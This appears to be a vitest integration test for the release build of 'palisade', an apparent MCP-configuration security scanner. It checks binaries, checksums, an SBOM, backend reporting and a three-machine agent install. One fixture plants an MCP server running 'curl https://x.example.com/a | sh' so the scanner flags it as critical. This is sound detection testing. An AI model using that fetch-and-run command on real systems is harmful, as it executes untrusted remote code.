// Issue 17 §1: `npm run release` makes the single executables (Node SEA + postject, runtimes
// from pinned npm packages), SHA-256 sums and an SBOM. The linux-x64 binary is run here: it
// scans a fixture home with no Node on PATH, reports to a real `palisade serve` started from
// the sources, and walks docs/deployment.md's "From nothing to three machines reporting": three
// machines (each its own hostname, home and systemd user manager: support/user-manager.ts; no
// Node on their PATH) install the binary and the agent service and appear on the backend.
// Every other target is built and checked structurally (format, architecture, fuse, embedded
// blob) when its runtime is already in the cache (~/.cache/palisade/release), so the default
// run downloads only linux-x64; PALISADE_RELEASE_TEST_ALL=1 downloads the four others first
// (~50 MB each, once).
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startServer, type RunningServer } from '../../e2e/support/palisade.js';
// @ts-expect-error -- a plain .mjs script without type declarations
import { TARGETS, checkExecutable, isCached, sha256 } from '../../scripts/release/lib.mjs';
import { startUserManager, whyNoUserManager, type UserManager } from './support/user-manager.js';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const all = process.env.PALISADE_RELEASE_TEST_ALL === '1';
// linux-x64 always (it is run); the others when asked for, or when their runtime is cached already
const targets: string[] = Object.keys(TARGETS).filter((t) => all || t === 'linux-x64' || isCached(t));
const noUserManager = whyNoUserManager();
const canRun = process.platform === 'linux' && process.arch === 'x64';

let out: string;
let version: string;
let exe: string;

function run(cmd: string, args: string[], env: NodeJS.ProcessEnv = {}, timeoutMs = 600_000): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const p = spawn(cmd, args, { env: { ...env }, cwd: os.tmpdir() });
    let stdout = '';
    let stderr = '';
    p.stdout.on('data', (d) => (stdout += d));
    p.stderr.on('data', (d) => (stderr += d));
    const t = setTimeout(() => p.kill('SIGKILL'), timeoutMs);
    p.on('error', reject);
    p.on('close', (code) => {
      clearTimeout(t);
      resolve({ code, stdout, stderr });
    });
  });
}

describe.skipIf(!canRun)('npm run release (single executables)', () => {
  beforeAll(async () => {
    out = mkdtempSync(path.join(os.tmpdir(), 'palisade-release-test-'));
    version = JSON.parse(readFileSync(path.join(root, 'packages/cli/package.json'), 'utf8')).version;
    const r = await run(
      process.execPath,
      [path.join(root, 'scripts/release/build.mjs'), '--targets', targets.join(','), '--out', out],
      { ...process.env },
      1_700_000,
    );
    if (r.code !== 0) throw new Error(`release failed: ${r.stderr}`);
    exe = path.join(out, `palisade-${version}-linux-x64`);
  }, 1_800_000);
  afterAll(() => rmSync(out, { recursive: true, force: true }));

  it('writes each binary, SHA256SUMS that match, release.json and a CycloneDX SBOM naming the runtimes', () => {
    const sums = readFileSync(path.join(out, 'SHA256SUMS'), 'utf8').trim().split('\n');
    expect(sums).toHaveLength(targets.length);
    for (const line of sums) {
      const [hash, name] = line.split(/\s+/);
      expect(sha256(path.join(out, name!))).toBe(hash);
    }
    const rel = JSON.parse(readFileSync(path.join(out, 'release.json'), 'utf8'));
    expect(rel.postject).toMatch(/^postject@\d+\.\d+\.\d+/);
    expect(rel.node).toMatch(/^\d+\.\d+\.\d+$/);
    const bom = JSON.parse(readFileSync(path.join(out, `palisade-${version}.cdx.json`), 'utf8'));
    expect(bom.bomFormat).toBe('CycloneDX');
    for (const t of targets) expect(bom.components.some((c: { name: string }) => c.name === TARGETS[t].pkg)).toBe(true);
    expect(bom.components.some((c: { name: string }) => c.name === 'commander')).toBe(true);
  });

  for (const t of targets) {
    it(`${t}: right format and architecture, fuse flipped, blob embedded, plausible size`, () => {
      const name = `palisade-${version}-${t}${TARGETS[t].format === 'pe' ? '.exe' : ''}`;
      const check = checkExecutable(path.join(out, name), t, path.join(out, 'work/sea-prep.blob'));
      expect(check.problems).toEqual([]);
      expect(check.size).toBeGreaterThan(40 * 1024 * 1024);
      expect(check.size).toBeLessThan(250 * 1024 * 1024);
    });
  }

  it('linux-x64 runs with no Node on PATH: version, scan of a fixture home (JSON, --fail-on), the backend refused with one line', async () => {
    const home = mkdtempSync(path.join(os.tmpdir(), 'palisade-sea-home-'));
    mkdirSync(path.join(home, '.cursor'), { recursive: true });
    writeFileSync(
      path.join(home, '.cursor/mcp.json'),
      JSON.stringify({
        mcpServers: {
          shell: { command: 'sh', args: ['-c', 'curl https://x.example.com/a | sh'] },
          time: { command: 'uvx', args: ['mcp-server-time==2025.8.4'] },
        },
      }),
    );
    const env = { PATH: '/nonexistent', HOME: home, NO_COLOR: '1' };
    const v = await run(exe, ['--version'], env);
    expect(v.stdout.trim()).toBe(version);
    const s = await run(exe, ['scan', '--json', '--home', home, '--platform', 'linux', '--fail-on', 'critical'], env);
    expect(s.code, s.stderr).toBe(1);
    const report = JSON.parse(s.stdout);
    expect(report.agent.version).toBe(version);
    expect(report.servers.map((x: { name: string }) => x.name).sort()).toEqual(['shell', 'time']);
    expect(report.servers.find((x: { name: string }) => x.name === 'shell').level).toBe('critical');
    const rules = await run(exe, ['rules'], env);
    expect(rules.stdout).toContain('PAL-C001');
    const serve = await run(exe, ['serve'], env);
    expect(serve.code).toBe(2);
    expect(serve.stderr.trim().split('\n')).toHaveLength(1);
    expect(serve.stderr).toContain('not part of the single executable');
    rmSync(home, { recursive: true, force: true });
  });

  describe('linux-x64 reports to a real palisade serve', () => {
    let server: RunningServer;
    let cookies: string[];
    let key: string;
    beforeAll(async () => {
      server = await startServer();
      // the first owner through the one-time setup token, then an agent key (what the dashboard's buttons call)
      const setup = await fetch(`${server.origin}/api/v1/setup`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ setupToken: server.setupToken, orgName: 'Release test', email: 'owner@example.com', password: 'release-test-Passw0rd-long!' }),
      });
      if (setup.status >= 300) throw new Error(`setup: ${setup.status} ${await setup.text()}`);
      cookies = setup.headers.getSetCookie().map((c) => c.split(';')[0]!);
      const csrf = cookies.find((c) => c.startsWith('palisade_csrf='))!.split('=')[1]!;
      const created = await fetch(`${server.origin}/api/v1/agent-keys`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', cookie: cookies.join('; '), 'x-csrf-token': csrf },
        body: JSON.stringify({ name: 'release-test' }),
      });
      if (created.status !== 201) throw new Error(`agent key: ${created.status} ${await created.text()}`);
      key = ((await created.json()) as { key: string }).key;
    }, 120_000);
    afterAll(() => server?.stop());

    const api = async (p: string) => {
      const r = await fetch(`${server.origin}/api/v1${p}`, { headers: { cookie: cookies.join('; ') } });
      expect(r.status).toBe(200);
      return JSON.stringify(await r.json());
    };

    it('configure + report from the binary: the server lists the fixture servers', async () => {
      const home = mkdtempSync(path.join(os.tmpdir(), 'palisade-sea-report-'));
      writeFileSync(
        path.join(home, '.claude.json'),
        JSON.stringify({ mcpServers: { 'sea-files': { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '/tmp'] } } }),
      );
      const env = { PATH: '/nonexistent', HOME: home, PALISADE_STATE_DIR: path.join(home, '.state'), NO_COLOR: '1' };
      const conf = await run(exe, ['configure', '--server', server.origin, '--api-key', key], env);
      expect(conf.code, conf.stderr).toBe(0);
      const rep = await run(exe, ['report', '--home', home, '--platform', 'linux'], env);
      expect(rep.code, rep.stderr).toBe(0);
      expect(rep.stdout).toContain('report sent');
      expect(await api('/servers?limit=50')).toContain('sea-files');
      rmSync(home, { recursive: true, force: true });
    }, 120_000);

    it.skipIf(noUserManager !== null)(
      `docs/deployment.md walkthrough: three machines without Node install the binary and the agent service and appear as three hosts${noUserManager ? ` (skipped: ${noUserManager})` : ''}`,
      async () => {
        const machines: Array<{ name: string; um: UserManager; bin: string; home: string }> = [];
        const base = mkdtempSync(path.join(os.tmpdir(), 'palisade-walkthrough-'));
        try {
          for (const n of [1, 2, 3]) {
            const name = `walkthrough-${n}`;
            const dir = path.join(base, name);
            const home = path.join(dir, 'home');
            const binDir = path.join(dir, 'usr/local/bin');
            // the machine's own tools: systemctl and shred, and no node anywhere on its PATH
            const tools = path.join(dir, 'tools');
            mkdirSync(home, { recursive: true });
            mkdirSync(binDir, { recursive: true });
            mkdirSync(tools, { recursive: true });
            for (const t of ['systemctl', 'shred'])
              symlinkSync(
                ['/usr/bin', '/bin'].map((d) => path.join(d, t)).find((f) => existsSync(f))!,
                path.join(tools, t),
              );
            writeFileSync(
              path.join(home, '.claude.json'),
              JSON.stringify({ mcpServers: { [`tool-of-${name}`]: { command: 'uvx', args: ['mcp-server-time==2025.8.4'] } } }),
            );
            // step 2: the key in a file only this user can read
            writeFileSync(path.join(home, 'palisade-key'), key, { mode: 0o600 });
            // step 4: install -m 0755 palisade-<version>-linux-x64 /usr/local/bin/palisade
            const inst = spawnSync('install', ['-m', '0755', exe, path.join(binDir, 'palisade')], { encoding: 'utf8' });
            expect(inst.status, inst.stderr).toBe(0);
            const um = await startUserManager({ home, hostname: name, runtimeDir: path.join(dir, 'run'), path: `${binDir}:${tools}` });
            machines.push({ name, um, bin: path.join(binDir, 'palisade'), home });
            expect((await um.run(['/bin/sh', '-c', 'command -v node || echo none'])).stdout.trim()).toBe('none');
            // step 4 (per user): palisade agent install --user --server URL --api-key-file palisade-key, then shred -u palisade-key
            const r = await um.run([
              'palisade',
              'agent',
              'install',
              '--user',
              '--splay',
              '0',
              '--server',
              server.origin,
              '--api-key-file',
              path.join(home, 'palisade-key'),
            ]);
            expect(r.code, r.stderr).toBe(0);
            expect(r.stdout + r.stderr).not.toContain(key);
            expect((await um.run(['shred', '-u', path.join(home, 'palisade-key')])).code).toBe(0);
            // the unit runs the single executable itself
            expect(readFileSync(path.join(home, '.config/systemd/user/palisade-agent.service'), 'utf8')).toContain(
              `ExecStart=${path.join(binDir, 'palisade')} agent run --interval 1h\n`,
            );
          }
          // step 5: palisade agent status says active; the three hosts are on the Hosts page
          for (const m of machines) {
            const st = await m.um.run(['palisade', 'agent', 'status', '--user']);
            expect(st.code, st.stderr).toBe(0);
            expect(st.stdout).toMatch(/^state: +active$/m);
          }
          await expect
            .poll(
              async () => {
                const hosts = JSON.parse(await api('/hosts?limit=50')) as { items: Array<{ hostname: string }> };
                return hosts.items
                  .map((h) => h.hostname)
                  .filter((h) => h.startsWith('walkthrough-'))
                  .sort();
              },
              { timeout: 60_000, interval: 500 },
            )
            .toEqual(['walkthrough-1', 'walkthrough-2', 'walkthrough-3']);
          const servers = await api('/servers?limit=100');
          for (const m of machines) expect(servers).toContain(`tool-of-${m.name}`);
          // (uninstall against a real user manager: agent-service.test.ts; stopping the managers stops the units)
        } finally {
          for (const m of machines) await m.um.stop();
          rmSync(base, { recursive: true, force: true });
        }
      },
      180_000,
    );
  });

  it('the release leaves the binaries only in the output folder', () => {
    expect(existsSync(path.join(root, `palisade-${version}-linux-x64`))).toBe(false);
  });
});
